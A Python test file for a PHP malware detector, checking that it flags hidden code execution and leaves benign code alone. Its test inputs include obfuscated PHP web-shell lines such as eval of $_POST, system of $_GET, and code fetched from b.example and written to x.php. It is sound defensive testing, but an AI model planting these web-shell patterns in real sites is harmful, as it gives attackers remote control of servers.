"""What a program does behind its text. The samples are ours, and inert."""

from __future__ import annotations

import base64
import zlib

import pytest

from pratique.content.php.emulator.emulate import emulate
from pratique.content.php.hidden_act import HiddenAct, depth_of, hidden_acts, line_in_file

SURE = 0.7


def acts(source: str) -> list[HiddenAct]:
    return list(hidden_acts(emulate(b"<?php " + source.encode()), 1))


def sure(source: str) -> set[str]:
    return {act.mark for act in acts(source) if act.confidence >= SURE}


def in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def run(text: str) -> str:
    """A program that runs `text`, hidden in one layer."""
    return f"eval(base64_decode('{in_base64(text)}'));"


def deflated(text: str) -> str:
    """The same through two functions."""
    packed = zlib.compress(text.encode(), 9)[2:-4]
    return f"eval(gzinflate(base64_decode('{base64.b64encode(packed).decode()}')));"


def xored(name: str, key: str = "key") -> str:
    """A name as PHP gets it back by an exclusive or."""
    mixed = bytes(c ^ ord(key[at % len(key)]) for at, c in enumerate(name.encode()))
    return f"(hex2bin('{mixed.hex()}') ^ '{(key * len(name))[: len(name)]}')"


REQUEST, DECODED, REMOTE = "php-runs-request", "php-runs-decoded", "php-runs-remote"
INCLUDE, WRITES = "php-hidden-include", "php-writes-request"


@pytest.mark.parametrize(
    ("mark", "source", "says"),
    [
        # code
        (DECODED, run("echo 'a text that is hidden';"), "eval runs a hidden text"),
        (DECODED, deflated("echo 'this is hidden as well';"), "base64_decode, gzinflate"),
        (DECODED, "eval(base64_decode(get_option('x')));", "the database"),
        (REQUEST, run("eval($_POST['c']);"), "$_POST['c'] as code"),
        (REQUEST, deflated(run("eval($_COOKIE['c']);")), "hidden under 2 layers"),
        (REQUEST, "$c = 'create_' . 'function'; $f = $c('', $_POST['c']); $f();", "as code"),
        (REMOTE, run("eval(file_get_contents('http://b.example/x'));"), "http://b.example/x"),
        # commands
        (DECODED, "$f = 'sys' . 'tem'; $f('id');", "starts a command"),
        (REQUEST, f"$f = {xored('shell_exec')}; $f($_POST['c']);", "as a command"),
        (REQUEST, run("system($_GET['c']);"), "system runs $_GET['c'] as a command"),
        # calls
        (DECODED, f"$f = {xored('base64_decode')}; echo $f('AAAA');", "base64_decode"),
        (REQUEST, "$n = '_' . 'POST'; $p = $$n; $p['f']($p['x']);", "named by"),
        (REQUEST, run("$_GET['f']($_GET['x']);"), "named by $_GET['f']"),
        # includes
        (INCLUDE, f"@include base64_decode('{in_base64('/srv/a/.cache.ico')}');", ".cache.ico"),
        (INCLUDE, r'@include "\x2fsrv\x2fa\x2f.\x6flog\x2eico";', "/srv/a/.olog.ico"),
        (INCLUDE, r'include "\x2fsrv\x2fx";', "behind escapes"),
        (INCLUDE, r'include "\57srv\57x.php";', "behind escapes"),
        (REQUEST, run("include $_GET['p'];"), "$_GET['p'] names"),
        # a class that the visitor names, and gives a text
        (REQUEST, "$c = $_GET['c']; new $c($_POST['x']);", "class that is made is named by"),
        # short texts remember how they came about
        (
            DECODED,
            f"eval(strrev(base64_decode('{in_base64(';)2 ,1(ofniphp')}')));",
            "base64_decode",
        ),
        # writes
        (WRITES, "$w = 'file_' . 'put_contents'; $w('x.php', $_POST['c']);", "writes $_POST['c']"),
        (
            WRITES,
            run("file_put_contents('x.php', file_get_contents('http://b.example/x'));"),
            "what another server sends",
        ),
    ],
)
def test_gives(mark, source, says):
    found = [act for act in acts(source) if act.mark == mark and act.confidence >= SURE]
    assert found
    assert any(says in act.why for act in found), [act.why for act in found]


@pytest.mark.parametrize(
    "source",
    [
        # what the text shows is for those who read the text
        "system($_GET['c']);",
        "file_put_contents('x.php', $_POST['c']);",
        "include $_GET['p'];",
        "eval('echo 1 + 1 + 1;');",
        "$f = 'system'; $f($_POST['c']);",
        # an include whose name is written
        "include 'header.php';",
        r'include "a\tb\x2fc.php"; include dirname(__FILE__) . "/x.php";'.replace("\\x2f", "/"),
        # a name that is checked first
        "$f = $_GET['f']; if (in_array($f, ['one', 'two'])) { $f($_GET['x']); }",
        "$f = $_GET['f']; $k = ['one' => 1]; if (!isset($k[$f])) { die; } $f($_GET['x']);",
        # a name that is put together, of a function that undoes what hides nothing
        "$f = 'str' . 'rev'; echo $f('abc');",
        "include __DIR__ . '/lib/' . 'footer.php';",
        # a factory, and a controller that lets its visitor choose a method
        "class A { function go() { $m = $_GET['action']; return $this->$m(); } } (new A)->go();",
        "class A { function go() { $m = $_GET['action']; $this->$m($_POST); } } (new A)->go();",
        "$class = $_GET['widget']; $w = new $class($_POST);",
        "$f = 'action_' . $_GET['a']; $f($_POST);",
        "call_user_func('show_' . $_GET['page'], $_POST);",
        # a name that is put together, of a function that does nothing to others
        "$f = 'html' . 'specialchars'; echo $f($_GET['q']);",
        f"$f = {xored('strtolower')}; echo $f($_POST['c']);",
        "$f = strrev('repputrots'); echo $f('a');",
        # decoded, and only shown or kept
        f"echo base64_decode('{in_base64('eval($_POST[1]); this is a picture')}');",
        "$x = unserialize(base64_decode($row['data'])); echo $x->title;",
        "file_put_contents('a.png', base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB'));",
    ],
)
def test_leaves_alone(source):
    assert sure(source) == set()


def test_a_visitor_who_names_the_function_is_surer_where_he_gives_its_arguments():
    def confidence(source: str) -> float:
        return max(act.confidence for act in acts(source))

    assert confidence("$f = $_GET['f']; $f();") < SURE
    assert confidence("$f = $_GET['f']; $f($_POST['x']);") >= SURE


def test_a_class_that_another_file_names_is_hardly_the_visitors():
    code = "$p = f($_POST['a']); $c = g('Part', $p); $x = new $c($p);"
    assert max((act.confidence for act in acts(code)), default=0) < 0.5


def test_line_is_that_of_the_file():
    source = b"<html>\n<?php\n\n" + run("\n\neval($_POST['c']);").encode()
    (act,) = [act for act in hidden_acts(emulate(source), 1) if act.mark == REQUEST]
    assert (act.line, act.quote) == (4, "eval($_POST['c']);")
    assert "line 3 of a text that is hidden under one layer" in act.why
    (later,) = [act for act in hidden_acts(emulate(source), 11) if act.mark == REQUEST]
    assert later.line == 14


def test_depth_and_line_of_a_layer():
    machine = emulate(b"<?php\n" + deflated(run("\necho 'the innermost';")).encode())
    assert [depth_of(machine, number) for number in (1, 2)] == ["one layer", "2 layers"]
    assert [line_in_file(machine, 1, number) for number in (0, 1, 2)] == [1, 2, 2]


def test_nothing_in_it_steers_a_terminal():
    path = in_base64("/srv/a/\x1b[2J\u202e.ico")
    (act,) = acts(f"include base64_decode('{path}');")
    assert act.mark == INCLUDE
    assert (act.why + act.quote).isprintable()
